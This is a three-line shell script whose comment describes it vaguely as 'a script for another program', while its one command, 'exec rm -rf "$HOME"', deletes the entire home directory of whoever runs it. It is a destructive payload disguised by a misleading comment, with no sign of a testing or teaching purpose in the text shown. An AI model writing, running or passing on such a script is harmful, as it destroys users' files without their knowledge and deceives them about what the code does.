#!/bin/sh
# Is a script for another program
exec rm -rf "$HOME"
